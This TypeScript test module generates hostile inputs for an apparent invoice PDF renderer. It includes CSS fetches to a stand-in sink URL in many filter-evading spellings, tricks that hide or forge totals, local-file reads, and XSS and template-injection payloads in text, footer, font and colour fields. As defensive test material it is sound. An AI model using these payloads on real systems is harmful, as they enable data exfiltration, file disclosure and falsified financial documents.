/**
 * Hostile inputs for the PDF: style sheets, texts, fonts and footers that try to fetch, to read files, to run, to hide or to change
 * what a document says. Generated from tables of attacks and of spellings. `sink` is a URL that must never be requested.
 */
export interface HostileInput {
  name: string;
  /** The input: the company's style sheet, a text of the document, or a field of the configuration. */
  into: 'css' | 'text' | 'footer' | 'font' | 'color';
  value: string;
}

const css = (name: string, value: string): HostileInput => ({ name, into: 'css', value });

/** Spellings of a request to `sink`. */
const fetches = (url: string): Record<string, string> => ({
  'import of a string': `@import "${url}";`,
  'import of a URL': `@import url(${url});`,
  'import into a layer': `@import url("${url}") layer(x) supports(display:grid);`,
  'font face': `@font-face { font-family: "Open Sans"; src: url(${url}); }`,
  background: `body { background: url(${url}); }`,
  'background image': `.totals { background-image: url("${url}"); }`,
  'image set': `h1 { background: image-set("${url}" 1x); }`,
  'prefixed image set': `h1 { background: -webkit-image-set(url(${url}) 1x); }`,
  'cross fade': `h1 { background: -webkit-cross-fade(url(${url}), url(${url}), 50%); }`,
  content: `h1::before { content: url(${url}); }`,
  'list image': `dl { display: list-item; list-style: square url(${url}); }`,
  'border image': `table { border-image: url(${url}) 30 round; }`,
  mask: `td { mask: url(${url}#m); -webkit-mask-image: url(${url}); }`,
  filter: `td { filter: url(${url}#f); }`,
  clip: `td { clip-path: url(${url}#c); }`,
  cursor: `body { cursor: url(${url}), auto; }`,
  'shape outside': `.logo { float: left; shape-outside: url(${url}); }`,
  'attribute selector that tells what it found': `p[class^="d"] { background: url(${url}d); }`,
  'text selector by has': `body:has(.totals) { background: url(${url}); }`,
  namespace: `@namespace url(${url}); h1 { color: red; }`,
  'page margin box': `@page { @top-left { content: url(${url}); } }`,
  'custom property': `:root { --u: url(${url}); } body { background: var(--u); }`,
  'registered property': `@property --u { syntax: "<url>"; inherits: true; initial-value: url(${url}); } body { background: var(--u); }`,
  paint: `body { background: paint(x); } @import '${url}';`,
});

/** Other spellings of the same style sheet. */
const spellings: Record<string, (source: string) => string> = {
  plainly: source => source,
  'in capitals': source => source.replace(/@import|url|image-set|background|content|filter/gi, word => word.toUpperCase()),
  'with escapes': source =>
    source.replace(
      /u(rl\()|(?<=@)i(mport)|b(ackground)|c(ontent)/g,
      word => `\\${word.charCodeAt(0).toString(16)} ${word.slice(1)}`,
    ),
  'with comments': source => source.replace(/([:{(])/g, '$1/**/'),
  'inside a media query': source => (source.startsWith('@import') ? `@charset "utf-8"; ${source}` : `@media print { ${source} }`),
  'after what looks closed': source => `h1 { color: navy; } } ${source}`,
};

/** Declarations that hide text, move it away, cover it or turn it into another. */
const tricks = [
  'display: none',
  'display: contents',
  'visibility: hidden',
  'visibility: collapse',
  'opacity: 0',
  'opacity: .01',
  'font-size: 0',
  'font-size: 1px',
  'font: 0/0 a',
  'color: transparent',
  'color: #fff',
  'color: white',
  'color: #ffffff00',
  'color: rgb(0 0 0 / 0)',
  'color: hsla(0, 0%, 0%, 0)',
  'color: color-mix(in srgb, white, white)',
  'color: light-dark(white, white)',
  '-webkit-text-fill-color: transparent',
  '-webkit-text-security: disc',
  'background: #000; color: #000',
  'background: linear-gradient(#fff, #fff)',
  'background-clip: text; color: transparent',
  'clip: rect(0 0 0 0); position: absolute',
  'clip-path: inset(100%)',
  'mask-image: linear-gradient(transparent, transparent)',
  'transform: scale(0)',
  'transform: translateX(-9999px)',
  'translate: -9999px',
  'scale: 0',
  'rotate: 180deg',
  'zoom: 0.01',
  'perspective: 1px; transform: rotateY(90deg)',
  'filter: opacity(0)',
  'filter: brightness(100)',
  'backdrop-filter: blur(9px)',
  'mix-blend-mode: screen',
  'position: absolute; left: -9999px',
  'position: fixed; inset: 0; background: #fff; z-index: 9999',
  'position: relative; top: -5000px',
  'margin-left: -9999px',
  'margin-top: -9999px',
  'text-indent: -9999px',
  'text-indent: 100cm; overflow: hidden; white-space: nowrap',
  'height: 0; overflow: hidden',
  'max-height: 0; overflow: clip',
  'width: 0; overflow: hidden; white-space: nowrap',
  'overflow: hidden; text-overflow: ellipsis; width: 1ch; display: block',
  '-webkit-line-clamp: 1; display: -webkit-box; -webkit-box-orient: vertical; overflow: hidden',
  'content-visibility: hidden',
  'contain: strict',
  'line-height: 0',
  'letter-spacing: -1em',
  'word-spacing: -9em',
  'direction: rtl; unicode-bidi: bidi-override',
  'writing-mode: vertical-rl; text-orientation: upright',
  'text-decoration: line-through 9px black',
  'text-shadow: 0 0 9px #fff, 0 0 0 99px #fff',
  'box-shadow: 0 0 0 999px #fff',
  'outline: 999px solid #fff',
  'border: 500px solid #fff',
  'text-transform: full-width',
  'font-variant: small-caps; font-feature-settings: "zero" 1, "frac" 1',
  'font-family: Symbol, Wingdings, Webdings',
  'font-size-adjust: .001',
  'float: left; margin-left: -200%',
  'columns: 99',
  'order: -1',
  'flex-direction: row-reverse',
  'grid-template-columns: 0 0',
  'break-before: page; height: 400cm',
  'page: other',
  'all: unset',
  'all: revert',
  'animation: x 1s infinite; opacity: 0',
  'transition: all 0s; opacity: 0',
  'content: "1,00 RON"',
  'counter-reset: page 41',
  'color: red !important; display: none !important',
  'appearance: none; inset-inline-start: -99999px; position: absolute',
];

const targets = ['.totals', '.totals .grand td', '*'];

/** Text that a style sheet tries to add, and what it tries to read. */
const forgeries = (url: string, file: string): Record<string, string> => ({
  'another total before the totals': '.totals::before { content: "Total de plată 1,00 RON"; }',
  'another total after every figure': 'td.figure::after { content: "0"; }',
  'a counter as a number': '.document-number::after { counter-increment: n 7; content: counter(n); }',
  'an attribute as text': 'html::before { content: attr(lang); }',
  'quotes as text': '.name { quotes: "Alt" "SRL"; } .name::before { content: open-quote; }',
  'a marker as text': 'tr { display: list-item; list-style-type: "9"; }',
  'a string set': 'h1 { string-set: title content(); }',
  'the first letter': '.totals td::first-letter { font-size: 0; }',
  'a page of another size': '@page { size: 10mm 10mm; margin: 0; }',
  'page margins over everything': '@page { margin: 500mm; }',
  'the running title': '@page { @top-left { content: "Factură 1"; } @bottom-right { content: "Pagina 1 din 1"; } }',
  'a layer that comes first': '@layer guard { td { display: none !important; } }',
  'an order of layers': '@layer company, template, guard;',
  'a scope': '@scope (.totals) { td { display: none; } }',
  'a container query': '@container (width > 0) { td { display: none; } }',
  'a supports query': '@supports (display: grid) { td { opacity: 0; } }',
  'a keyframe': '@keyframes x { to { opacity: 0 } } td { animation: x 0s forwards; }',
  'a starting style': '@starting-style { td { opacity: 0; } }',
  'a counter style': '@counter-style x { system: cyclic; symbols: "9"; } td { list-style: x; }',
  'a font palette': '@font-palette-values --x { font-family: "Open Sans"; }',
  'a nested rule': '.totals { & td { display: none; } }',
  'a nested at-rule': '.totals { @media print { display: none; } }',
  'a file as an import': `@import "${file}";`,
  'a file as an image': `h1 { background: url(${file}); }`,
  'a file as text': `h1::before { content: url("${file}"); }`,
  'a file as a font': `@font-face { font-family: x; src: url(${file}); } td { font-family: x; }`,
  'an expression': 'td { width: expression(alert(1)); }',
  'a binding': `td { -moz-binding: url(${url}x.xml#x); }`,
  'a behaviour': `td { behavior: url(${url}x.htc); }`,
  'a script URL': 'td { background: url(javascript:alert(1)); }',
  'a data URL': 'td { background: url(data:image/svg+xml,<svg/onload=alert(1)>); }',
  'an unclosed comment': '.totals { color: navy; } /* ',
  'an unclosed string': '.totals { font-family: "x',
  'an unclosed rule': '.totals { color: navy',
  'an end of the element': `</style><script>fetch('${url}')</script>`,
  'an end of the element and an image': `</style><img src="${url}">`,
  'an end of the element and a frame': `</style><iframe src="${file}"></iframe>`,
  'an end of the element and a refresh': `</style><meta http-equiv="refresh" content="0;url=${url}">`,
  'an end of the element in capitals': `</STYLE ><link rel=stylesheet href="${url}">`,
  'an end of the element in a string': `td { font-family: "</style><object data='${url}'></object>"; }`,
  'a comment of HTML': `<!-- --> </style><embed src="${url}">`,
  'a null character': 'td { dis\0play: none; }',
  'a byte order mark': '\ufefftd { display: none; }',
  'thousands of rules': 'td{color:red}'.repeat(1_500),
  'a deep selector': `${'div '.repeat(900)}{color:red}`,
  'a deep nesting': `${':not('.repeat(900)}a${')'.repeat(900)}{color:red}`,
});

/** Extreme values of allowed properties: the document must still show all facts, or not be printed. */
const extremes: Record<string, string> = {
  'the largest type': '* { font-size: 28pt; }',
  'the smallest type': '* { font-size: 6pt; line-height: 1.1; }',
  'ever smaller type': '* { font-size: 0.7em; }',
  'ever larger type': '* { font-size: 2em; }',
  'the widest padding': '* { padding: 57pt; }',
  'the widest margins': '* { margin: 57pt; }',
  'the widest borders': '* { border: 6pt double #fff; }',
  'the widest spacing': '* { letter-spacing: 0.9pt; word-spacing: 4pt; }',
  'the narrowest spacing': '* { letter-spacing: -0.2pt; }',
  'dark on dark': '* { color: #999; background: #d3d3d3; }',
  'the highest lines': '* { line-height: 2.5; }',
  'capitals everywhere': '* { text-transform: uppercase; }',
  'everything to the right': '* { text-align: right; justify-content: flex-end; }',
  'panels made white': '.masthead, .dates, .totals .grand, .lines th { background: #fff; }',
  'light type made dark': '.masthead *, .dates *, .totals .grand *, .lines th { color: #000; }',
  'round everything': '* { border-radius: 14pt; background: #fefefe; }',
};

const markup = (url: string, file: string): string[] => [
  `<script>fetch('${url}')</script>`,
  `<img src="${url}" onerror="alert(1)">`,
  `"><img src=${url}>`,
  `'><svg onload=fetch('${url}')>`,
  `</td></tr></table><iframe src="${file}">`,
  `<style>td { display: none }</style>`,
  `</style><style>@import "${url}";</style>`,
  `<link rel="stylesheet" href="${url}">`,
  `<meta http-equiv="refresh" content="0;url=${url}">`,
  `<base href="${url}">`,
  `<object data="${file}"></object>`,
  `<embed src="${url}">`,
  `<svg><use href="${url}#x"/></svg>`,
  `<math><mtext><img src="${url}"></mtext></math>`,
  `<plaintext>`,
  `<!--`,
  `]]>`,
  `&lt;script&gt;`,
  `{{constructor.constructor('return 1')()}}`,
  '${7*7}',
  `"; } body { background: url(${url}) } /*`,
  `\\22 ; } @import "${url}"; /*`,
  `\u202eNOR 00,1 latoT\u202c`,
  `\u2028</style>`,
  `\0<script>`,
  '\ud800 lone surrogate',
];

/** Every input. */
export function hostileInputs(sink: string, file: string): HostileInput[] {
  const network = Object.entries(fetches(sink)).flatMap(([attack, source]) =>
    Object.entries(spellings)
      .map(([spelling, write]): [string, string] => [spelling, write(source)])
      .filter(([spelling, written]) => spelling === 'plainly' || written !== source)
      .map(([spelling, written]) => css(`fetch by ${attack}, ${spelling}`, written)),
  );
  const hiding = tricks.flatMap((declarations, index) =>
    targets
      .filter((_, place) => place === index % targets.length)
      .map(target => css(`${declarations} at ${target}`, `${target} { ${declarations} }`)),
  );
  const others = Object.entries({ ...forgeries(sink, file), ...extremes }).map(([name, source]) => css(name, source));
  const texts = markup(sink, file).flatMap((value): HostileInput[] => [
    { name: `text ${value}`, into: 'text', value },
    { name: `footer ${value}`, into: 'footer', value },
  ]);
  const fields: HostileInput[] = [
    { name: 'a font with a rule', into: 'font', value: `x'; } body { background: url(${sink}) } a { b: '` },
    { name: 'a font that is a file', into: 'font', value: `url(${file})` },
    { name: 'a font of symbols', into: 'font', value: 'Wingdings' },
    { name: 'a colour with a rule', into: 'color', value: `#000000; } body { background: url(${sink}) }` },
    { name: 'a colour that is a URL', into: 'color', value: `url(${sink})` },
  ];
  return [...network, ...hiding, ...others, ...texts, ...fields];
}

/** Names of inputs that are accepted unchanged. */
export const ALLOWED: ReadonlySet<string> = new Set(Object.keys(extremes));
